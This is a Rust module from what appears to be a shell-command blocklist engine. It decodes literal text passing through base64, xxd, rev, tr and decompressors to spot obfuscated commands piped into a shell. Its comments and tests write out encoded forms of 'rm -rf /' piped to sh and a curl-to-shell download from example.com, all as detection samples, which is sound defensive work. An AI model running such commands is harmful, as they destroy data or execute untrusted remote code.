//! What flows through a pipe, as far as the line shows it, for the default blocklist.
//!
//! Literal producers (`echo`, `printf`, `cat <<EOF`, here-strings) are followed through the
//! filters whose effect is known — `base64 -d`, `xxd -r -p`, `rev`, `tr`, `cat`, `tee` — so
//! `echo cm0gLXJmIC8= | base64 -d | sh` is read as the `rm -rf /` it runs, and
//! `echo bHMK | base64 -d | sh` as the `ls` it runs. A decoder of input the line does not
//! show (`base64 -d payload.b64 | sh`, `curl … | gunzip | sh`, `zcat x.gz | bash`) hides
//! the code from any reading: [`Flow::hidden`], refused as `default:hidden-code` where it
//! is run. Other programs (`sed`, `grep`, `sort` …) pass their input's texts on as
//! candidates (text that may reach the reader, not all that does). A printer of an
//! expansion the line does not give a value (`echo "$P" | base64 -d | sh`) does not show
//! all it prints, so what a decoder makes of it is hidden too. What reaches a file the same
//! way (`… | base64 -d > a`, `| tee a`) is what the file holds ([`written_output`]).

use super::parse::{RedirKind, Script, SimpleCommand};
use super::rules::basename;

/// What a pipeline stage writes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Flow {
    /// Texts it may write (for `echo`, with and without its escapes resolved).
    pub texts: Vec<String>,
    /// The texts are all it writes: each of its sources is in the line.
    pub complete: bool,
    /// Part of it is what a decoder (`base64 -d`, `gunzip`, `xxd -r`, `rev` …) made of input
    /// the line does not show.
    pub hidden: bool,
    /// Part of what is hidden went through something other than a decompressor (`base64 -d`,
    /// `xxd -r`, `tr`, `openssl enc -d`): text encoded to be hidden, not a compressed file.
    pub decoded: bool,
    /// Part of it went through a program that changes what it reads (a decoder, `tr`,
    /// `sed` …): its texts are not the printers' texts as they wrote them.
    pub changed: bool,
}

impl Flow {
    fn known(texts: Vec<String>) -> Flow {
        Flow {
            texts,
            complete: true,
            ..Flow::default()
        }
    }

    fn hidden() -> Flow {
        Flow {
            hidden: true,
            decoded: true,
            changed: true,
            ..Flow::default()
        }
    }

    /// What a decompressor writes: hidden, and decoded when its input was, or was the
    /// line's own text changed on the way (`echo H4sI… | base64 -d | gunzip`).
    fn unpacked(input: &Flow) -> Flow {
        Flow {
            hidden: true,
            decoded: input.decoded || input.changed,
            changed: true,
            ..Flow::default()
        }
    }

    fn merge(&mut self, other: Flow) {
        self.texts.extend(other.texts);
        self.complete &= other.complete;
        self.hidden |= other.hidden;
        self.decoded |= other.decoded;
        self.changed |= other.changed;
    }
}

/// A known function of a filter's input: its output, `None` when it fails (bad base64).
type Transform = Box<dyn Fn(&str) -> Option<String>>;

/// How a filter changes what passes through it.
enum Filter {
    /// Its output is its input (`cat`, `tee FILE`).
    Same,
    /// A known function of its input (`base64 -d`, `rev`, `tr a-z n-za-m`).
    Map(Transform),
    /// It decodes what the line cannot follow (a file, `base32 -d`, `openssl enc -d`).
    Opaque,
    /// It decompresses (`gunzip`, `zcat`, `xz -d`): what it writes is hidden as an opaque
    /// decoder's is, but it is the format database dumps and archives come in.
    Unpack,
    /// Anything else: its input's texts are passed on as candidates.
    Unknown,
}

/// What stage `j` of pipeline `p` reads from the pipe.
pub(crate) fn pipe_input(script: &Script, p: u32, j: u16) -> Flow {
    if j == 0 {
        return Flow::default();
    }
    // Each stage is worked out once (the next one asks for it again), from the first one
    // not yet known up: asking each for the one before would recurse once a stage, and a
    // 128 KiB line holds a pipeline of 10,000 stages.
    // A short pipeline's stages are cheaper worked out again than kept.
    if j <= 4 {
        return fed(script, p, j);
    }
    let lookups = &script.lookups;
    let first = (1..j)
        .rev()
        .find(|&k| lookups.knows_pipe_input(p, k))
        .map_or(1, |k| k + 1);
    for k in first..j {
        lookups.pipe_input(p, k, || fed(script, p, k));
    }
    lookups.pipe_input(p, j, || fed(script, p, j))
}

/// What stage `j` (≥ 1) of pipeline `p` is fed: what the stage before writes.
fn fed(script: &Script, p: u32, j: u16) -> Flow {
    let mut out = Flow::known(Vec::new());
    let mut any = false;
    for i in script.lookups.stage(script, p, j - 1) {
        any = true;
        out.merge(output(script, &script.commands[i], p, j - 1));
    }
    out.complete &= any;
    out
}

/// What the commands of a substitution (`$(…)`, `<(…)`) print: what its last command writes.
pub(crate) fn substitution_output(script: &Script, subs: std::ops::Range<usize>) -> Flow {
    match script.commands.get(subs.clone()).and_then(|s| s.last()) {
        Some(last) => {
            let k = last.stages.last().map(|&(p, j)| (p, j));
            output(script, last, k.map_or(0, |k| k.0), k.map_or(0, |k| k.1))
        }
        None => Flow::default(),
    }
}

/// What `c`, at stage `k` of pipeline `p`, writes.
fn output(script: &Script, c: &SimpleCommand, p: u32, k: u16) -> Flow {
    #[cfg(test)]
    super::lookups::work::step();
    if let Some(texts) = super::printed_texts(script, c) {
        // `echo "$P" | base64 -d`: an expansion's value is not in the text.
        return Flow {
            complete: c.words[1..].iter().all(|w| !w.dynamic),
            ..Flow::known(texts)
        };
    }
    // `printf '%q' …`, `printf '%f' …`: a printer whose output the line does not tell.
    if super::unknown_printf(c) {
        return Flow::hidden();
    }
    let words: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
    let input = || {
        let here = super::here_texts(script, c);
        if !here.is_empty() {
            Flow::known(here)
        } else if c.redirects.iter().any(|r| r.kind == RedirKind::Input) || k == 0 {
            Flow::default()
        } else {
            pipe_input(script, p, k)
        }
    };
    match filter(&words) {
        Filter::Same => input(),
        Filter::Map(f) => {
            let i = input();
            if i.complete && !i.hidden {
                Flow {
                    changed: true,
                    ..Flow::known(i.texts.iter().filter_map(|t| f(t)).collect())
                }
            } else {
                Flow::hidden()
            }
        }
        Filter::Opaque => Flow::hidden(),
        Filter::Unpack => Flow::unpacked(&input()),
        Filter::Unknown => {
            let i = input();
            Flow {
                changed: i.changed || !i.texts.is_empty(),
                texts: i.texts,
                complete: false,
                ..i
            }
        }
    }
}

/// What a command that is not a literal printer writes into the files it writes (`echo
/// cm0g… | base64 -d > a`, `… | rev | tee a`, `base64 -d x.b64 > a`), where a program on the
/// way changed the text the line shows or hid it ([`Flow::changed`]): with `passer` (it
/// writes its input into files: `tee`, `cp /dev/stdin`, `dd`, `sponge`) what it reads from
/// its pipe, else what `c` itself writes. `None` where that is the printers' own texts
/// (their writes reach the file themselves) or nothing the line shows.
pub(crate) fn written_output(script: &Script, c: &SimpleCommand, passer: bool) -> Option<Flow> {
    let piped = c.stages.iter().any(|&(_, j)| j > 0);
    if !piped && !may_hide(c) {
        return None;
    }
    let mut out = Flow::known(Vec::new());
    if passer {
        for &(p, j) in c.stages.iter().filter(|&&(_, j)| j > 0) {
            out.merge(pipe_input(script, p, j));
        }
    } else if piped {
        for &(p, j) in &c.stages {
            out.merge(output(script, c, p, j));
        }
    } else {
        out = output(script, c, 0, 0);
    }
    (out.changed && (out.hidden || !out.texts.is_empty())).then_some(out)
}

/// True when `c` is a decoder or a transformer ([`filter`] reads it as one): a line
/// without any needs no search for hidden code.
pub(crate) fn may_hide(c: &SimpleCommand) -> bool {
    let words: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
    matches!(
        filter(&words),
        Filter::Map(_) | Filter::Opaque | Filter::Unpack
    ) || super::unknown_printf(c)
}

fn filter(words: &[&str]) -> Filter {
    let Some((&prog, args)) = words.split_first() else {
        return Filter::Unknown;
    };
    let opts: Vec<&str> = args
        .iter()
        .copied()
        .take_while(|a| a.starts_with('-') && *a != "-" && *a != "--")
        .collect();
    let operands = args.len() > opts.len() + usize::from(args.get(opts.len()) == Some(&"--"))
        && args[opts.len()..].iter().any(|a| *a != "-" && *a != "--");
    let short = |c: char| {
        opts.iter()
            .any(|o| !o.starts_with("--") && o[1..].contains(c))
    };
    let long = |l: &str| opts.iter().any(|o| o.len() > 3 && l.starts_with(*o));
    let decoding = short('d') || short('D') || long("--decode");
    match basename(prog) {
        "cat" | "tee" if !operands || basename(prog) == "tee" => Filter::Same,
        "base64" if decoding && !operands => {
            let garbage = short('i') || long("--ignore-garbage");
            Filter::Map(Box::new(move |t: &str| Some(decode_base64(t, garbage))))
        }
        "base64" | "base32" | "basenc" | "uudecode" if decoding => Filter::Opaque,
        "uudecode" => Filter::Opaque,
        "gunzip" | "zcat" | "gzcat" | "bzcat" | "bunzip2" | "xzcat" | "unxz" | "unlzma"
        | "lzcat" | "zstdcat" | "unzstd" | "lz4cat" | "unlz4" | "brotli"
            if basename(prog) != "brotli" || decoding =>
        {
            Filter::Unpack
        }
        "gzip" | "bzip2" | "xz" | "lzma" | "zstd" | "lz4" | "pigz" | "lzip"
            if decoding || long("--decompress") || long("--uncompress") =>
        {
            Filter::Unpack
        }
        "openssl"
            if args
                .iter()
                .any(|a| matches!(*a, "base64" | "enc" | "smime" | "cms"))
                && args.iter().any(|a| *a == "-d" || *a == "-decrypt") =>
        {
            Filter::Opaque
        }
        "gpg" | "gpg2" | "age" if short('d') || long("--decrypt") => Filter::Opaque,
        "xxd" if short('r') || long("--revert") => {
            let plain = opts
                .iter()
                .any(|o| matches!(*o, "-p" | "-ps" | "-postscript" | "-plain" | "-rp" | "-pr"));
            if plain && !operands {
                Filter::Map(Box::new(decode_hex))
            } else {
                Filter::Opaque
            }
        }
        "rev" if !operands => Filter::Map(Box::new(|t: &str| {
            Some(
                t.split_inclusive('\n')
                    .map(|l| {
                        let (body, nl) = match l.strip_suffix('\n') {
                            Some(b) => (b, "\n"),
                            None => (l, ""),
                        };
                        body.chars().rev().collect::<String>() + nl
                    })
                    .collect(),
            )
        })),
        "rev" => Filter::Opaque,
        // `tr -d '\r'`, `tr -s ' '`: line endings and blanks only, which hides nothing
        // (`cat script.sh | tr -d '\r' | sh` is `sh script.sh` with CRLF line ends).
        "tr" if blanks_only(args) => Filter::Unknown,
        "tr" => match translate(args) {
            Some(f) => Filter::Map(f),
            None => Filter::Opaque,
        },
        _ => Filter::Unknown,
    }
}

/// `tr -d SET`, `tr -s SET` or `tr -ds SET` where SET holds only blanks and control
/// characters.
fn blanks_only(args: &[&str]) -> bool {
    match args {
        [opt, set] if matches!(*opt, "-d" | "-s" | "-ds" | "-sd") => expand_set(set)
            .is_some_and(|chars| chars.iter().all(|c| c.is_whitespace() || c.is_control())),
        _ => false,
    }
}

/// What GNU `base64 -d` writes for `t`. It skips newlines (and with `-i`,
/// `--ignore-garbage`, every character outside the alphabet but `=`) and writes each byte
/// as soon as the characters that make it up are read, so input that goes bad after a valid
/// start still writes that start before it fails: `cm0gLXJmIC8K!` writes `rm -rf /\n`, and
/// `cm0gLXJmIC8*` writes `rm -rf /`. The text is what it wrote up to the first character it
/// cannot decode.
fn decode_base64(t: &str, ignore_garbage: bool) -> String {
    let value = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        } as u32)
    };
    let mut bytes = Vec::new();
    // Characters of the current group of four read so far, and their bits.
    let (mut n, mut bits) = (0u32, 0u32);
    // `=` seen in the current group: the rest of the group must be `=` too.
    let mut padding = false;
    for c in t.bytes() {
        if c == b'\n' || ignore_garbage && c != b'=' && value(c).is_none() {
            continue;
        }
        match (value(c), padding) {
            (Some(v), false) => {
                bits = bits << 6 | v;
                n += 1;
                // The second, third and fourth characters each complete a byte.
                if n > 1 {
                    bytes.push((bits >> (2 * (4 - n))) as u8);
                    bits &= (1 << (2 * (4 - n))) - 1;
                }
            }
            // `xx==` and `xxx=` end a group; `=` anywhere else is invalid.
            (None, _) if c == b'=' && n >= 2 => {
                padding = true;
                n += 1;
            }
            _ => break,
        }
        if n == 4 {
            (n, bits, padding) = (0, 0, false);
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

fn decode_hex(t: &str) -> Option<String> {
    let digits: Vec<u8> = t
        .bytes()
        .filter(u8::is_ascii_hexdigit)
        .map(|b| (b as char).to_digit(16).unwrap_or(0) as u8)
        .collect();
    let bytes: Vec<u8> = digits.chunks_exact(2).map(|p| p[0] << 4 | p[1]).collect();
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

/// `tr [-d] SET1 [SET2]` with ranges, escapes and SET2's repeats (`[c*]`, `[c*n]`); `None`
/// for what it does not model (`-c`, `-s`, classes such as `[:upper:]`, `[=e=]`).
fn translate(args: &[&str]) -> Option<Transform> {
    let (delete, sets) = match args {
        ["-d", rest @ ..] => (true, rest),
        rest => (false, rest),
    };
    if sets.iter().any(|s| s.starts_with('-')) {
        return None;
    }
    let one = expand_set(sets.first()?)?;
    if delete {
        if sets.len() != 1 {
            return None;
        }
        return Some(Box::new(move |t: &str| {
            Some(t.chars().filter(|c| !one.contains(c)).collect())
        }));
    }
    let [_, two] = sets else { return None };
    let two = expand_set2(two, one.len())?;
    let last = *two.last()?;
    Some(Box::new(move |t: &str| {
        Some(
            t.chars()
                .map(|c| match one.iter().rposition(|&x| x == c) {
                    Some(i) => two.get(i).copied().unwrap_or(last),
                    None => c,
                })
                .collect(),
        )
    }))
}

/// One element of a `tr` set.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SetItem {
    Char(char),
    /// `a-z`.
    Range(char, char),
    /// `[c*n]`; `[c*]` and `[c*0]` (`None`) fill SET2 to SET1's length.
    Repeat(char, Option<usize>),
}

/// The characters of a `tr` SET1 (or of a SET2 without repeats); `None` for what is not
/// modelled or what tr refuses.
fn expand_set(s: &str) -> Option<Vec<char>> {
    expand_items(&set_items(s)?, None)
}

/// The characters of a `tr` SET2 translating a SET1 of `len` characters: `[r*]` is as many
/// `r` as SET1 has characters SET2 does not match otherwise (`tr X '[r*]'` maps X to r).
fn expand_set2(s: &str, len: usize) -> Option<Vec<char>> {
    let items = set_items(s)?;
    let fills = items
        .iter()
        .filter(|i| matches!(i, SetItem::Repeat(_, None)))
        .count();
    if fills > 1 {
        return None;
    }
    let fixed = expand_items(
        &items
            .iter()
            .filter(|i| !matches!(i, SetItem::Repeat(_, None)))
            .copied()
            .collect::<Vec<_>>(),
        Some(0),
    )?
    .len();
    expand_items(&items, Some(len.saturating_sub(fixed)))
}

/// The characters of `items`, a fill repeat standing for `fill` characters; `fill` is
/// `None` for SET1, which may hold no repeat at all (tr refuses one there).
fn expand_items(items: &[SetItem], fill: Option<usize>) -> Option<Vec<char>> {
    let mut out = Vec::new();
    for item in items {
        match *item {
            SetItem::Char(c) => out.push(c),
            SetItem::Range(a, b) => {
                let (a, b) = (a as u32, b as u32);
                if a > b || b - a > 1024 {
                    return None;
                }
                out.extend((a..=b).filter_map(char::from_u32));
            }
            SetItem::Repeat(c, n) => {
                let n = n.unwrap_or(fill?).min(4096);
                out.extend(std::iter::repeat_n(c, n));
            }
        }
        if out.len() > 8192 {
            return None;
        }
    }
    Some(out)
}

/// A `tr` set read the way GNU tr reads it: backslash escapes (`\n`, `\057`, `\\`, and
/// `\X` for any other X is X), ranges `a-z`, repeats `[c*n]` and `[c*]`; a `[` that starts
/// none of its constructs is a literal character. Classes (`[:upper:]`) and equivalence
/// classes (`[=e=]`) are not modelled, and a malformed repeat (`[a*b]`) makes tr fail:
/// `None`.
fn set_items(s: &str) -> Option<Vec<SetItem>> {
    let raw: Vec<char> = s.chars().collect();
    // Each character with whether it came from an escape (an escaped `[` or `-` is literal).
    let mut chars: Vec<(char, bool)> = Vec::with_capacity(raw.len());
    let mut i = 0;
    while i < raw.len() {
        if raw[i] != '\\' {
            chars.push((raw[i], false));
            i += 1;
            continue;
        }
        let Some(&e) = raw.get(i + 1) else {
            chars.push(('\\', true));
            break;
        };
        i += 2;
        let c = match e {
            'a' => '\x07',
            'b' => '\x08',
            'f' => '\x0c',
            'n' => '\n',
            'r' => '\r',
            't' => '\t',
            'v' => '\x0b',
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match raw.get(i).and_then(|d| d.to_digit(8)) {
                        Some(d) if v * 8 + d <= 0o377 => {
                            v = v * 8 + d;
                            i += 1;
                        }
                        _ => break,
                    }
                }
                char::from_u32(v)?
            }
            other => other,
        };
        chars.push((c, true));
    }
    let mut out = Vec::new();
    let mut k = 0;
    while k < chars.len() {
        let (c, escaped) = chars[k];
        if c == '[' && !escaped {
            if matches!(chars.get(k + 1), Some(&(':' | '=', false))) {
                return None;
            }
            // `[c*` … `]`: a repeat, or (when no `]` follows the digits) literal text.
            if let (Some(&(r, _)), Some(&('*', false))) = (chars.get(k + 1), chars.get(k + 2)) {
                if let Some(close) = chars[k + 3..].iter().position(|&x| x == (']', false)) {
                    let count: String = chars[k + 3..k + 3 + close].iter().map(|x| x.0).collect();
                    let n = match count.as_str() {
                        "" => None,
                        d if d.starts_with('0') => usize::from_str_radix(d, 8).ok()?.into(),
                        d => d.parse::<usize>().ok()?.into(),
                    };
                    out.push(SetItem::Repeat(r, n.filter(|&n| n > 0)));
                    k += 4 + close;
                    continue;
                }
            }
        }
        match (chars.get(k + 1), chars.get(k + 2)) {
            (Some(&('-', false)), Some(&(b, _))) => {
                out.push(SetItem::Range(c, b));
                k += 3;
            }
            _ => {
                out.push(SetItem::Char(c));
                k += 1;
            }
        }
    }
    Some(out)
}

/// Which backslash escapes a text's printer resolves.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Escapes {
    /// `printf`'s format and `tr`'s sets: `\NNN` octal, `\xHH`, `\n` ….
    Printf,
    /// `echo -e`, dash's `echo` and printf's `%b`: also `\0NNN`, and `\c` ends the output.
    Echo,
}

/// `text` with its backslash escapes resolved the way `how` does.
pub(crate) fn resolve_escapes(text: &str, how: Escapes) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let simple = match e {
            'a' => Some('\x07'),
            'b' => Some('\x08'),
            'e' | 'E' => Some('\x1b'),
            'f' => Some('\x0c'),
            'n' => Some('\n'),
            'r' => Some('\r'),
            't' => Some('\t'),
            'v' => Some('\x0b'),
            '\\' => Some('\\'),
            _ => None,
        };
        if let Some(s) = simple {
            out.push(s);
            continue;
        }
        let mut number = |radix: u32, max: usize| {
            let mut v = 0u32;
            let mut n = 0;
            while n < max {
                match chars.peek().and_then(|d| d.to_digit(radix)) {
                    Some(d) => {
                        v = v * radix + d;
                        chars.next();
                        n += 1;
                    }
                    None => break,
                }
            }
            (n > 0).then(|| char::from_u32(v & 0xff).unwrap_or('\0'))
        };
        match e {
            'x' => match number(16, 2) {
                Some(ch) => out.push(ch),
                None => out.push_str("\\x"),
            },
            '0' if how == Escapes::Echo => out.push(number(8, 3).unwrap_or('\0')),
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|d| d.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.push(char::from_u32(v & 0xff).unwrap_or('\0'));
            }
            'c' if how == Escapes::Echo => break,
            '"' | '\'' | '?' => out.push(e),
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::parse::parse;

    /// Everything `c` reads on its input through pipes and here-documents.
    fn input_of(script: &Script, c: &SimpleCommand) -> Flow {
        let here = crate::policy::here_texts(script, c);
        if !here.is_empty() {
            return Flow::known(here);
        }
        let mut out = Flow::known(Vec::new());
        let mut piped = false;
        for &(p, j) in c.stages.iter().filter(|&&(_, j)| j > 0) {
            piped = true;
            out.merge(pipe_input(script, p, j));
        }
        let from_file = c.redirects.iter().any(|r| r.kind == RedirKind::Input);
        out.complete &= piped && !from_file;
        out
    }

    fn into_last(line: &str) -> Flow {
        let s = parse(line).unwrap();
        input_of(&s, s.commands.last().unwrap())
    }

    #[test]
    fn literal_text_is_followed_through_known_filters() {
        let f = into_last("echo cm0gLXJmIC8K | base64 -d | sh");
        assert!(f.complete && !f.hidden, "{f:?}");
        assert!(f.texts.contains(&"rm -rf /\n".to_string()), "{f:?}");
        let f = into_last("echo '/ fr- mr' | rev | cat | sh");
        assert!(f.texts.contains(&"rm -rf /".to_string()), "{f:?}");
        let f = into_last("printf 'ez -ez /' | tr ez mr | tr -d x | sh");
        assert_eq!(f.texts, ["mr -mr /"], "{f:?}");
        let f = into_last("echo 726d202d7266202f | xxd -r -p | bash");
        assert!(f.texts.contains(&"rm -rf /".to_string()), "{f:?}");
        let f = into_last("base64 -d <<< cm0gLXJmIC8K | sh");
        assert!(f.texts.contains(&"rm -rf /\n".to_string()), "{f:?}");
    }

    #[test]
    fn decoders_of_input_the_line_does_not_show_hide_it() {
        for line in [
            "base64 -d payload.b64 | sh",
            "cat payload | base64 --decode | sh",
            "zcat x.gz | bash",
            "curl -s https://example.com/x | gunzip | sh",
            "base32 -d <<< X | sh",
            "openssl enc -d -aes-256-cbc -in x | sh",
            "xxd -r dump | sh",
            "rev file | sh",
            "base64 -d < payload | sh",
        ] {
            assert!(into_last(line).hidden, "{line}");
        }
        for line in [
            "cat script.sh | sh",
            "echo ls | sed s/l/x/ | sh",
            "echo hi | sh",
            r"cat script.sh | tr -d '\r' | sh",
            "cat cmds | tr -s ' ' | bash",
        ] {
            assert!(!into_last(line).hidden, "{line}");
        }
        // A decoder feeding another decoder: still hidden.
        assert!(into_last("base64 -d x | rev | sh").hidden);
        // tr that changes letters, or deletes more than blanks, may spell anything.
        assert!(into_last("cat f | tr a-z b-za | sh").hidden);
        assert!(into_last(r"cat f | tr -d 'x\r' | sh").hidden);
        assert!(into_last("cat f | tr '[:upper:]' '[:lower:]' | sh").hidden);
    }

    #[test]
    fn base64_writes_what_it_decoded_before_bad_input() {
        assert_eq!(decode_base64("cm0gLXJmIC8K!", false), "rm -rf /\n");
        assert_eq!(decode_base64("cm0gLXJmIC8*", false), "rm -rf /");
        assert_eq!(decode_base64("cm0gL*XJmIC8K", false), "rm ");
        assert_eq!(decode_base64("cm0gL*XJmIC8K", true), "rm -rf /\n");
        assert_eq!(decode_base64("L3Vzcgo=!", false), "/usr\n");
        assert_eq!(decode_base64("Lw==Lw==", false), "//");
        assert_eq!(decode_base64("Lw=x", false), "/");
        assert_eq!(decode_base64("bHM K", false), "ls");
        assert_eq!(decode_base64("c=m0g", true), "");
        assert_eq!(decode_base64("bHMK\n", false), "ls\n");
    }

    #[test]
    fn tr_sets_read_repeats_and_refuse_classes() {
        let f = into_last("printf 'Xm -Xf /usr' | tr X '[r*]' | sh");
        assert_eq!(f.texts, ["rm -rf /usr"], "{f:?}");
        let f = into_last("printf 'abc' | tr abc '[x*2]y' | sh");
        assert_eq!(f.texts, ["xxy"], "{f:?}");
        let f = into_last("printf 'abcd' | tr a-d 'y[x*]z' | sh");
        assert_eq!(f.texts, ["yxxz"], "{f:?}");
        let f = into_last(r"printf 'a[b' | tr '\[' x | sh");
        assert_eq!(f.texts, ["axb"], "{f:?}");
        // `[c*` without a closing bracket is literal text.
        let f = into_last("printf 'ab' | tr a '[b*' | sh");
        assert_eq!(f.texts, ["[b"], "{f:?}");
        for line in [
            "printf x | tr x '[=r=]' | sh",
            "printf x | tr '[:lower:]' '[:upper:]' | sh",
            "printf x | tr x '[a*b]' | sh",
            "printf x | tr '[x*2]' y | sh",
        ] {
            assert!(into_last(line).hidden, "{line}");
        }
    }

    #[test]
    fn decompressed_input_is_hidden_but_not_decoded() {
        let f = into_last("zcat dump.sql.gz | psql db");
        assert!(f.hidden && !f.decoded, "{f:?}");
        assert!(into_last("base64 -d x | gunzip | psql db").decoded);
        assert!(into_last("zcat x.gz | base64 -d | psql db").decoded);
    }

    #[test]
    fn escapes_are_resolved_like_printf_and_echo() {
        assert_eq!(
            resolve_escapes(r"\x72m -rf \057", Escapes::Printf),
            "rm -rf /"
        );
        assert_eq!(resolve_escapes(r"\0162m\c ignored", Escapes::Echo), "rm");
        assert_eq!(resolve_escapes(r"a\tb\\n", Escapes::Printf), "a\tb\\n");
        assert_eq!(resolve_escapes(r"\q\x", Escapes::Printf), r"\q\x");
    }
}
